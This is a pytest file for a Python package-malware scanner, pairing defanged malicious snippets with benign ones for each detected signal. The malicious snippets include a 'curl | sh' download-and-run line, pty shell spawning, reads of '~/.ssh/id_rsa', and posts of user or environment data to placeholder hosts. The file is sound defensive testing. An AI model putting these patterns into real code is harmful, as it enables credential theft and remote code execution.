"""Code signals from the AST pass: each with a defanged positive and a benign negative case."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import PackageFeatures


def scan(code: str, path: str = "pkg/mod.py", **extra: str) -> PackageFeatures:
    return extract_features(make_archive({path: code, **extra}))


B64 = "aW1wb3J0IG9z"  # base64 of a harmless word
CASES: list[tuple[str, str, str]] = [
    ("code.exec_eval", "exec('print(1)')\n", "print('exec')\n"),
    ("code.compile", "c = compile('1', 'f', 'eval')\n", "import re\nr = re.compile('x')\n"),
    ("code.dunder_import", "m = __import__('o' + 's')\n", "import os\n"),
    ("code.dynamic_getattr", "import os\nf = getattr(os, name)\n", "x = getattr(obj, 'size', 0)\n"),
    (
        "code.decode_exec",
        f"import base64\nexec(base64.b64decode('{B64}'))\n",
        "exec(open('version.py').read())\n",
    ),
    (
        "code.base64",
        f"from base64 import b64decode as d\nd('{B64}')\n",
        "import base64\nbase64.b64encode(b'x')\n",
    ),
    ("code.marshal_zlib", "import zlib\nzlib.decompress(b'')\n", "import zlib\nzlib.crc32(b'')\n"),
    (
        "code.subprocess",
        "import subprocess as sp\nsp.run(['echo', 'hi'])\n",
        "import shutil\nshutil.which('x')\n",
    ),
    (
        "code.os_system",
        "from os import system as s\ns('echo hi')\n",
        "def system(x):\n    pass\nsystem('x')\n",
    ),
    ("code.reverse_shell", "import pty\npty.spawn('/bin/sh')\n", "import os\nos.getpid()\n"),
    ("code.socket", "import socket\ns = socket.socket()\n", "import socketserver\n"),
    (
        "code.http",
        "import urllib.request\nurllib.request.urlopen('https://example.invalid')\n",
        "import urllib.parse\nurllib.parse.quote('x')\n",
    ),
    ("code.raw_ip", "H = 'http://198.51.100.7:8080/c'\n", "H = 'http://127.0.0.1:8080/c'\n"),
    (
        "code.webhook",
        "W = 'https://discord.com/api/webhooks/1/abc'\n",
        "W = 'https://discord.com/developers'\n",
    ),
    ("code.paste_site", "P = 'https://pastebin.com/raw/abc'\n", "P = 'https://github.com/raw/abc'\n"),
    (
        "code.unusual_host",
        "U = 'https://collector.example.invalid/x'\n",
        "U = 'https://docs.python.org/3/'\n",
    ),
    (
        "code.download_exec",
        "import os, requests\nr = requests.get('https://example.invalid/p')\nos.system('echo run')\n",
        "import requests\nr = requests.get('https://example.invalid/p')\n",
    ),
    ("code.credential_read", "import os\np = os.path.expanduser('~/.ssh/id_rsa')\n", "p = 'README.md'\n"),
    ("code.env_access", "import os\nh = os.environ.get('HOME')\n", "environ = {}\nh = environ.get('HOME')\n"),
    ("code.startup_write", "p = '~/.bashrc'\n", "p = '~/.config/demo.toml'\n"),
    ("code.system_info", "import socket\nn = socket.gethostname()\n", "import socket\nsocket.AF_INET\n"),
    ("code.ctypes_win", "import ctypes\nctypes.windll.user32\n", "import json\n"),
    (
        "code.high_entropy_strings",
        "K = 'q8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0Aq8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0A+/'\n",
        "K = '" + "the quick brown fox jumps over the lazy dog " * 3 + "'\n",
    ),
    ("code.long_strings", "K = '" + "ab" * 120 + "'\n", "K = '" + "ab" * 60 + "'\n"),
    (
        "code.hex_chr_chains",
        "s = chr(101)+chr(99)+chr(104)+chr(111)+chr(32)+chr(104)+chr(105)+chr(33)\n",
        "s = chr(65)\n",
    ),
    ("code.obfuscator", "from pytransform import pyarmor_runtime\n", "from typing import Any\n"),
    ("code.long_lines", "x = [" + "1, " * 400 + "]\n", "x = [1, 2, 3]\n"),
    (
        "code.decoded_sink",
        f"import base64, requests\nrequests.get(base64.b64decode('{B64}') + b'/k')\n",
        "import base64, requests\nrequests.get('https://example.invalid', data=base64.b64encode(b'x'))\n",
    ),
    (
        "code.exfil_flow",
        "import getpass, requests\nu = getpass.getuser()\nrequests.post('https://h.invalid', json=[u])\n",
        "import os, requests\nrequests.get('https://example.invalid', headers={'T': os.environ['TOKEN']})\n",
    ),
]


@pytest.mark.parametrize(("feature", "positive", "negative"), CASES, ids=[c[0] for c in CASES])
def test_code_signal(feature: str, positive: str, negative: str) -> None:
    pos = scan(positive)
    assert pos.values[feature] > 0.0, feature
    ev = pos.evidence_for(feature)
    assert ev and ev[0].file == "demo-1.0/pkg/mod.py" and ev[0].line is not None
    assert len(ev[0].snippet) <= 120
    assert scan(negative).values[feature] == 0.0, feature


def test_hex_escape_chain() -> None:
    assert scan("s = '" + "\\x65\\x63\\x68\\x6f" * 3 + "'\n").values["code.hex_chr_chains"] > 0


def test_max_entropy_bounds() -> None:
    f = scan("K = 'q8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0Aq8Zr2Lm0Xv7Pk4Yt1Ws9Bn6Hc3Jd5Fg0A'\n")
    assert 4.0 < f.values["code.max_entropy"] <= 8.0
    assert scan("x = 1\n").values["code.max_entropy"] == 0.0


def test_evidence_line_numbers_and_alias_resolution() -> None:
    code = "import os\n\n\nfrom subprocess import Popen as P\n\n\nP(['echo', 'x'])\n"
    f = scan(code)
    ev = f.evidence_for("code.subprocess")
    assert ev[0].line == 7 and "subprocess.Popen" in ev[0].message
    assert ev[0].snippet == "P(['echo', 'x'])"
    assert "call:subprocess.Popen" in f.code_text.split()


def test_decoded_variable_then_exec() -> None:
    code = f"import base64\npayload = base64.b64decode('{B64}')\nexec(payload)\n"
    assert scan(code).values["code.decode_exec"] == 1.0


def test_evidence_is_capped() -> None:
    code = "import os\n" + "os.system('echo hi')\n" * 30
    f = scan(code)
    assert len(f.evidence_for("code.os_system")) <= 5
    assert f.values["code.os_system"] > 3.0  # log1p(30)


def test_install_features() -> None:
    setup = "import os\nfrom setuptools import setup\nos.system('echo hi')\nsetup(name='demo')\n"
    f = scan(setup, path="setup.py")
    assert f.values["install.setup_code"] == 1.0 and f.values["install.setup_suspicious"] == 1.0
    assert f.evidence_for("install.setup_code")[0].line == 3
    assert "setup:toplevel_call:os.system" in f.code_text.split()
    benign = scan(
        "from setuptools import setup\nwith open('README.md') as fh:\n    long = fh.read()\n"
        "exec(open('demo/version.py').read())\nsetup(name='demo')\n",
        path="setup.py",
    )
    assert benign.values["install.setup_code"] == 0.0 and benign.values["install.setup_suspicious"] == 0.0


def test_pth_exec() -> None:
    assert (
        scan("x = 1\n", **{"demo.pth": "import os; os.system('echo hi')\n"}).values["install.pth_exec"] == 1.0
    )
    assert scan("x = 1\n", **{"demo.pth": "src/demo\n"}).values["install.pth_exec"] == 0.0


def test_init_suspicious_only_at_module_level() -> None:
    top = scan("import os\nos.system('echo hi')\n", path="demo/__init__.py")
    assert top.values["install.init_suspicious"] == 1.0
    inner = scan("import os\ndef f():\n    os.system('echo hi')\n", path="demo/__init__.py")
    assert inner.values["install.init_suspicious"] == 0.0


def test_entry_point_payload() -> None:
    files = {
        "demo/cli.py": "import os\ndef main():\n    os.system('echo hi')\n",
        "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
    }
    assert extract_features(make_archive(files)).values["install.entry_point_payload"] == 1.0
    files["demo/cli.py"] = "def main():\n    print('hi')\n"
    assert extract_features(make_archive(files)).values["install.entry_point_payload"] == 0.0


def test_text_files_are_scanned_for_urls_and_scripts() -> None:
    f = extract_features(
        make_archive(
            {
                "a.py": "x = 1\n",
                "tests/data.json": '{"u": "http://198.51.100.7/p"}',
                "tools/get.sh": "curl -s https://example.invalid/x | sh\n",
            }
        )
    )
    assert f.values["code.raw_ip"] > 0
    assert f.values["code.download_exec"] == 1.0
    assert f.evidence_for("code.download_exec")[0].file == "demo-1.0/tools/get.sh"


def test_exfil_flow_whole_environment_but_not_one_variable() -> None:
    whole = (
        "import os, requests\nenv = os.environ.copy()\nrequests.post('https://example.invalid', json=env)\n"
    )
    assert scan(whole).values["code.exfil_flow"] == 1.0
    one = "import os, requests\nenv = os.environ.copy()\nrequests.post('https://h.invalid', data=env['X'])\n"
    assert scan(one).values["code.exfil_flow"] == 0.0
    process = "import os, subprocess\nsubprocess.run(['echo'], env=dict(os.environ))\n"
    assert scan(process).values["code.exfil_flow"] == 0.0


IMPORT_TIME = "install.import_time_payload"


def test_import_time_payload_at_module_level_of_any_module() -> None:
    top = scan("import subprocess\nsubprocess.run(['echo', 'hi'])\n", path="pkg/util.py")
    assert top.values[IMPORT_TIME] == 1.0
    ev = top.evidence_for(IMPORT_TIME)
    assert ev[0].file == "demo-1.0/pkg/util.py" and ev[0].line == 2
    in_function = scan(
        "import subprocess\ndef f():\n    subprocess.run(['echo', 'hi'])\n", path="pkg/util.py"
    )
    assert in_function.values[IMPORT_TIME] == 0.0


def test_import_time_payload_skips_main_guard() -> None:
    code = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['echo', 'hi'])\n"
    assert scan(code, path="pkg/cli.py").values[IMPORT_TIME] == 0.0


def test_import_time_payload_follows_local_calls_and_threads() -> None:
    code = (
        "import threading, urllib.request\n"
        "def send():\n    urllib.request.urlopen('https://example.invalid')\n"
        "def start():\n    send()\n"
        "threading.Thread(target=start, daemon=True).start()\n"
    )
    feats = scan(code, path="pkg/helpers.py")
    assert feats.values[IMPORT_TIME] == 1.0
    ev = feats.evidence_for(IMPORT_TIME)[0]
    assert ev.line == 6 and "send()" in ev.message
    never_called = code.replace("threading.Thread(target=start, daemon=True).start()\n", "")
    assert scan(never_called, path="pkg/helpers.py").values[IMPORT_TIME] == 0.0


def test_import_time_payload_ignores_setup_py() -> None:
    feats = scan("import os\nos.system('echo hi')\n", path="setup.py")
    assert feats.values["install.setup_suspicious"] == 1.0
    assert feats.values[IMPORT_TIME] == 0.0


def test_behaviour_concentration_counts_the_busiest_file() -> None:
    payload = (
        "import base64, os, socket, subprocess\n"
        "s = socket.socket()\n"
        "subprocess.run(['echo', 'hi'])\n"
        "x = base64.b64decode('aGk=')\n"
    )
    feats = scan(payload, path="pkg/core.py", **{"pkg/other.py": "import os\nos.getenv('HOME')\n"})
    assert feats.values["code.max_file_behaviours"] == 3.0  # socket, subprocess, base64 (import-time)
    assert feats.values["install.running_file_behaviours"] == 3.0
    ev = feats.evidence_for("install.running_file_behaviours")[0]
    assert ev.file == "demo-1.0/pkg/core.py" and "socket" in ev.message


def test_behaviour_concentration_of_code_that_does_not_run_on_import() -> None:
    lazy = "import socket, subprocess\ndef f():\n    socket.socket()\n    subprocess.run(['echo'])\n"
    feats = scan(lazy, path="pkg/core.py")
    assert feats.values["code.max_file_behaviours"] == 2.0
    assert feats.values["install.running_file_behaviours"] == 0.0


def test_behaviour_profile_tokens_pair_kinds_within_one_file() -> None:
    payload = "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['echo', 'hi'])\n"
    other = "import base64\nbase64.b64decode('aGk=')\n"
    feats = scan(payload, path="pkg/core.py", **{"pkg/other.py": other})
    tokens = set(feats.code_text.split())
    assert "pair:socket+subprocess" in tokens
    assert not any(t.startswith("pair:") and "base64" in t for t in tokens)  # base64 sits in another file
    assert {"run:socket", "run:subprocess"} <= tokens  # core.py runs network/process code on import
    assert "run:base64" not in tokens  # other.py only decodes: no import-time payload, so it does not "run"


def test_behaviour_profile_is_the_same_for_setup_py_and_import_time_payloads() -> None:
    payload = "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['echo', 'hi'])\n"

    def profile(path: str) -> set[str]:
        return {t for t in scan(payload, path=path).code_text.split() if t.startswith(("pair:", "run:"))}

    assert (
        profile("setup.py")
        == profile("pkg/__init__.py")
        == {
            "pair:socket+subprocess",
            "run:socket",
            "run:subprocess",
        }
    )
    lazy = "import socket, subprocess\ndef f():\n    socket.socket()\n    subprocess.run(['echo'])\n"
    lazy_tokens = set(scan(lazy, path="pkg/core.py").code_text.split())
    assert "pair:socket+subprocess" in lazy_tokens
    assert not any(t.startswith("run:") for t in lazy_tokens)  # nothing runs on import


def test_decoded_name_in_one_function_does_not_taint_another() -> None:
    code = (
        "import base64, requests\n"
        "def fix(url):\n    url = base64.b64decode(url)\n    return url\n"
        "def get(url):\n    return requests.get(url)\n"
    )
    assert scan(code).values["code.decoded_sink"] == 0.0
    tainted = (
        "import base64, requests\ndef get(u):\n    url = base64.b64decode(u)\n    return requests.get(url)\n"
    )
    assert scan(tainted).values["code.decoded_sink"] == 1.0
    module_level = (
        "import base64, requests\nURL = base64.b64decode('aA==')\ndef get():\n    requests.get(URL)\n"
    )
    assert scan(module_level).values["code.decoded_sink"] == 1.0


def test_a_chat_invite_link_is_not_a_webhook() -> None:
    invite = scan("SUPPORT = 'https://discord.gg/abcdef'\n")
    assert invite.values["code.webhook"] == 0.0
    hook = scan("W = 'https://discord.com/api/webhooks/1/abc'\n")
    assert hook.values["code.webhook"] > 0.0
